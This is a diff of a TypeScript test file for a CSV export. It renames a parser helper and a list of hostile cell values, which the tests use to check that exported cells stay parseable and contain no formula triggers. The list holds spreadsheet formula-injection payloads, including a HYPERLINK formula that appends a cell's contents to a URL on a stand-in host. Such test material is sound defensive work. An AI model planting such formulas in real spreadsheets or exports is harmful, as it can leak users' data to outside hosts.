@@ -11,12 +11,12 @@ const columns: CsvColumn<Row>[] = [
 ];
 
 /** Parses strictly: equal numbers of cells, quotes as in RFC 4180, and lines that end with CRLF. */
-const read = (csv: string): string[][] => {
+const parseCsv = (csv: string): string[][] => {
   expect(csv.startsWith('\uFEFF')).toBe(true);
   return parse(csv.slice(1), { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false });
 };
 
-const hostile = [
+const hostileCells = [
   '=1+1',
   '=HYPERLINK("https://elsewhere.test?"&A1,"Click")',
   '+1',
@@ -46,8 +46,8 @@ describe('CSV export', () => {
   });
 
   test('keeps hostile cells parseable and free of formulas', () => {
-    const rows = hostile.flatMap((one) => hostile.map((other) => ({ name: one, message: other })));
-    const [header, ...records] = read(toCsv(columns, rows));
+    const rows = hostileCells.flatMap((name) => hostileCells.map((message) => ({ name, message })));
+    const [header, ...records] = parseCsv(toCsv(columns, rows));
     expect(header).toEqual(['First Name', 'Message']);
     expect(records).toHaveLength(rows.length);
     for (const [index, cells] of records.entries()) {
@@ -63,7 +63,7 @@ describe('CSV export', () => {
     );
     fc.assert(
       fc.property(fc.array(fc.record({ name: text, message: text }), { minLength: 1 }), (rows) => {
-        const records = read(toCsv(columns, rows)).slice(1);
+        const records = parseCsv(toCsv(columns, rows)).slice(1);
         expect(records).toHaveLength(rows.length);
         for (const [index, cells] of records.entries()) {
           expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
